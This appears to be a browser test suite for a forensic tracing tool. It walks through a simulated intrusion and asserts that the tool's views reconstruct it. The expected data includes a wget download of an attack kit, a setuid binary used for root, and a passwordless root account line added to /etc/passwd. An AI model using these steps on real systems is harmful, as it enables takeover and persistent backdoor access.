// SPDX-License-Identifier: Apache-2.0
// The chain of questions of docs/tutorial.md, asked by clicking.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { start, Visitor } from "./browser.mjs";

const SERVER = process.env.FORENSIX_SERVER;
let browser;
let visitor;

before(async () => {
  browser = await start(SERVER);
  visitor = await Visitor.visit(browser, SERVER);
});
after(async () => {
  await browser?.close();
});

const includes = (row, ...texts) => {
  for (const text of texts) assert.ok(row.some((cell) => cell === text || (text.length > 6 && cell.includes(text))), `${text} in ${JSON.stringify(row)}`);
};

test("the overview shows the machine, that nothing is lost, and the session", async () => {
  await visitor.go("overview");
  const text = await visitor.page.locator("main").innerText();
  assert.match(text, /events\s+[\d,]{5,}/);
  assert.match(text, /lost records\s+0/);
  const [session] = await visitor.rows("sessions");
  includes(session, "▶ 1", "pts/0", "1001", "18");
  await visitor.page.locator(".chart canvas").waitFor();
  await visitor.picture("overview");
});

test("dragging over the chart chooses a time, and the address keeps it", async () => {
  const over = await visitor.page.locator(".chart .u-over").boundingBox();
  await visitor.page.mouse.move(over.x + over.width * 0.3, over.y + 50);
  await visitor.page.mouse.down();
  await visitor.page.mouse.move(over.x + over.width * 0.6, over.y + 60, { steps: 5 });
  await visitor.page.mouse.up();
  await visitor.page.waitForFunction(() => /from=2026-11-24T.*to=2026-11-24T/.test(decodeURIComponent(location.hash)));
  await visitor.settled();
  await visitor.follow(visitor.page.getByRole("button", { name: "All of it" }));
  assert.equal(await visitor.page.evaluate(() => location.hash), "#/overview");
});

test("who wrote this file?", async () => {
  await visitor.go("file?path=/etc/passwd");
  const writers = await visitor.rows("writers");
  assert.equal(writers.length, 1);
  includes(writers[0], "22:51:37.172481469", "531", "1001", "write", "1", "24");
});

test("by which descriptor: its lineage leads to who opened it", async () => {
  await visitor.follow(visitor.page.getByRole("button", { name: "lineage of descriptor 1 of 531" }));
  const lineage = await visitor.rows("lineage");
  includes(lineage[0], "531", "1");
  const last = lineage.at(-1);
  includes(last, "22:51:35.790727233", "521", "3");
  assert.ok(last.some((cell) => cell.startsWith("open")), JSON.stringify(last));
  assert.deepEqual([...new Set(lineage.map((row) => row[1]))], ["531", "530", "529", "527", "521"]);
  await visitor.picture("file");
});

test("what it changed: one line, that of eve", async () => {
  await visitor.follow(visitor.page.locator("[data-steps] button").first());
  const diff = visitor.page.locator("[data-diff]");
  await diff.waitFor();
  assert.deepEqual(await diff.locator(".added").allInnerTexts(), ["+ eve::0:0::/root:/bin/sh"]);
  assert.deepEqual(await diff.locator(".removed").allInnerTexts(), []);
  await visitor.picture("diff");
});

test("what was in it before and after", async () => {
  await visitor.go("file?path=/etc/passwd&at=2026-11-24T22:51:37.104964455Z");
  const content = visitor.page.locator("[data-content]");
  assert.ok(!(await content.innerText()).includes("eve::"));
  await visitor.go("file?path=/etc/passwd&at=2026-11-24T22:51:37.176705940Z");
  await visitor.page.waitForFunction(() => document.querySelector("[data-content]")?.textContent.includes("eve::0:0::/root:/bin/sh"));
  assert.ok((await content.innerText()).includes("keeper:x:1002:1002"));
});

test("that process, and the shell it came from", async () => {
  await visitor.follow((await visitor.row("writers", "531")).getByRole("link", { name: "531" }));
  assert.match(await visitor.page.locator("h1").innerText(), /sh kit user 0/);
  const ancestors = await visitor.rows("ancestors");
  assert.deepEqual(ancestors.slice(0, 7).map((row) => row[0]), ["531", "530", "529", "527", "521", "490", "483"]);
  includes(ancestors[4], "/var/tmp/.font -p");
  includes(ancestors[6], "login");
  assert.match(await visitor.page.locator("[data-shell]").innerText(), /on pts\/0/);
  await visitor.picture("process");
});

test("the rights of root: a program that is setuid", async () => {
  await visitor.follow((await visitor.row("ancestors", "/var/tmp/.font -p")).getByRole("link", { name: "521" }));
  const [exec] = await visitor.rows("execs");
  includes(exec, "/var/tmp/.font", "1001", "0");
  const descendants = await visitor.rows("descendants");
  assert.deepEqual(descendants.map((row) => Number(row[0])).sort(), [521, 522, 527, 529, 530, 531, 532, 533, 544, 545, 548, 557]);
});

test("descriptors at a time, by the slider", async () => {
  await visitor.go("process?process=521&tab=descriptors&open=2026-11-24T22:51:36.0Z");
  const open = await visitor.rows("descriptors");
  assert.ok(open.some((row) => row[0] === "7" && row[1] === "/etc/passwd"), JSON.stringify(open));
  const slider = visitor.page.getByRole("slider", { name: "Time" });
  await slider.fill(await slider.getAttribute("max"));
  await visitor.page.waitForFunction(() => !location.hash.includes("open="));
  const all = await visitor.rows("descriptors");
  assert.ok(all.length > open.length);
  assert.ok(all.some((row) => row[0] === "11" && row[1] === "/etc/passwd"));
});

test("how it came by one of them", async () => {
  await visitor.follow((await visitor.row("descriptors", "dupfd", "/etc/passwd")).getByRole("button", { name: "11" }));
  const lineage = await visitor.rows("lineage");
  assert.deepEqual(lineage.map((row) => [row[1], row[3]]), [["521", "11"], ["521", "7"], ["521", "3"]]);
});

test("what went to the file, byte by byte", async () => {
  await visitor.go("process?process=531&tab=io");
  await visitor.follow(visitor.page.getByRole("button", { name: "bytes of /etc/passwd" }));
  const io = await visitor.rows("io");
  assert.ok(io.some((row) => row[4].includes("eve::0:0::/root:/bin/sh\\n")), JSON.stringify(io));
});

test("the job that root does leads to keeper's shell, and that to mallory's", async () => {
  await visitor.go("file?path=/usr/local/sbin/tidy");
  const [writer] = await visitor.rows("writers");
  includes(writer, "507", "1002", "55");
  await visitor.follow((await visitor.row("writers", "507")).getByRole("link", { name: "507" }));
  assert.deepEqual((await visitor.rows("ancestors")).slice(0, 4).map((row) => row[1]), ["bash", "su keeper", "-bash", "login"]);
  assert.match(await visitor.page.locator("main").innerText(), /user at login\s+1001/);
});

test("the whole graph: from the backdoor to the download", async () => {
  await visitor.go("graph?path=/usr/lib/fontd&direction=back&depth=6");
  const nodes = visitor.page.locator("[data-graph] .node");
  const labels = await nodes.allTextContents();
  for (const label of ["/usr/lib/fontd", "cp kit /usr/lib/fontd", "/var/tmp/.font -p", "/home/mallory/kit", "wget -q http://127.0.0.1:8080/kit"]) {
    assert.ok(labels.some((text) => text.includes(label.slice(0, 34))), `${label} in ${labels.join(" | ")}`);
  }
  await visitor.picture("graph");
  const before = labels.length;
  await nodes.filter({ hasText: "wget" }).locator("text.under").click();
  await visitor.follow(visitor.page.getByRole("button", { name: "Hide" }));
  assert.ok((await nodes.count()) < before);
  await visitor.follow(visitor.page.getByRole("button", { name: "show what was hidden" }));
  assert.equal(await nodes.count(), before);
  await nodes.filter({ hasText: "wget" }).locator("a").click();
  await visitor.page.waitForFunction(() => location.hash.startsWith("#/process?"));
});

test("what came of the download, though its name is gone", async () => {
  await visitor.go("file?path=/home/mallory/kit");
  await visitor.page.waitForFunction(() => document.querySelector("[data-content]")?.textContent.startsWith("#!/bin/sh -p\n# me: who my parent is."));
  assert.match(await visitor.page.locator("#content").innerText(), /By the end the name is gone/);
  // The browser tells of that answer as of an error.
  visitor.wrongs = visitor.wrongs.filter((wrong) => !wrong.includes("status of 404"));
  await visitor.follow(visitor.page.getByRole("link", { name: "what came of it" }));
  await visitor.page.locator("[data-graph] .node").filter({ hasText: "/usr/lib/fontd" }).first().waitFor();
  assert.ok((await visitor.page.locator("[data-graph] .node").allTextContents()).some((text) => text.includes("/etc/passwd")));
});

test("following a node a step further brings more", async () => {
  await visitor.go("graph?path=/usr/lib/fontd&direction=back&depth=1");
  const nodes = visitor.page.locator("[data-graph] .node");
  const before = await nodes.count();
  await nodes.filter({ hasText: "cp kit" }).getByRole("button").click();
  await visitor.page.waitForFunction((count) => document.querySelectorAll("[data-graph] .node").length > count, before);
});

test("search finds what was typed, run, opened and called", async () => {
  await visitor.go("search?q=fontd");
  assert.ok((await visitor.rows("paths")).some((row) => row[0] === "/usr/lib/fontd"));
  assert.ok((await visitor.rows("commands")).some((row) => row.includes("cp kit /usr/lib/fontd")));
  assert.ok((await visitor.rows("terminal")).length > 0);
  await visitor.picture("search");
  await visitor.go("search?q=4444");
  assert.ok((await visitor.rows("addresses")).some((row) => row.some((cell) => cell.includes(":4444"))));
});

test("SQL answers, refuses to write, and has the tables beside it", async () => {
  await visitor.go("sql");
  await visitor.page.getByLabel("SQL").fill("SELECT pid, uid, euid FROM exec WHERE pid = 521");
  await visitor.page.keyboard.press("Control+Enter");
  await visitor.settled();
  assert.deepEqual(await visitor.rows("answer"), [["521", "1001", "0"]]);
  await visitor.picture("sql");
  await visitor.page.getByLabel("Find in tables").fill("login_uid");
  assert.ok((await visitor.page.locator(".schema summary").count()) > 2);
});

test("a long question shows progress, and can be ended", async () => {
  const sql = "SELECT count(*) FROM event a, event b, event c WHERE a.pid + b.pid + c.pid = 7";
  await visitor.page.goto(`${SERVER}/#/sql?sql=${encodeURIComponent(sql)}`);
  const cancel = visitor.page.getByRole("button", { name: "Cancel" });
  await cancel.waitFor();
  await visitor.page.waitForFunction(() => /\d\.\d s/.test(document.querySelector(".waiting")?.textContent ?? ""));
  await cancel.click();
  await visitor.page.locator("#answer .fault").waitFor();
  // The browser tells of each answer that is an error.
  visitor.wrongs = visitor.wrongs.filter((wrong) => !wrong.includes("499"));
});

test("every call of that shell's processes: a list of all, of which some are laid out", async () => {
  await visitor.go("process?process=490&tab=calls&family=true");
  const list = visitor.page.locator('[data-list="calls"]');
  await list.waitFor();
  const count = Number(await list.getAttribute("data-count"));
  assert.ok(count > 2000, String(count));
  assert.ok((await list.locator(".at").count()) < 100);
  await list.locator('[data-index="5"]').getByRole("time").waitFor();
  await visitor.picture("calls");
  // To the end by one jump: what is there is fetched, and is the last.
  await list.evaluate((element) => element.scrollTo(0, element.scrollHeight));
  const last = list.locator(`[data-index="${count - 1}"]`);
  await last.getByRole("time").waitFor();
  assert.match(await last.innerText(), /exit/);
  await visitor.page.getByLabel("calls: openat,%net").fill("setuid,execve");
  await visitor.page.keyboard.press("Enter");
  await visitor.page.waitForFunction((before) => Number(document.querySelector('[data-list="calls"]')?.dataset.count) < before, count);
});

test("live shows the last events, newest first, and only what is asked for", async () => {
  await visitor.go("live");
  const shown = (count) => visitor.page.waitForFunction((least) => Number(document.querySelector("[data-live]").dataset.live) >= least, count);
  await shown(20);
  const times = await visitor.page.locator(".live time").evaluateAll((all) => all.map((each) => each.dateTime));
  assert.deepEqual(times, [...times].sort().reverse());
  await visitor.page.getByLabel("calls: openat,%net").fill("openat");
  await visitor.page.keyboard.press("Enter");
  await visitor.page.waitForFunction(() => {
    const lines = [...document.querySelectorAll(".live .event")];
    return lines.length > 0 && lines.every((line) => line.textContent.includes("openat("));
  });
});

test("nothing went wrong meanwhile", async () => {
  await visitor.leave();
});
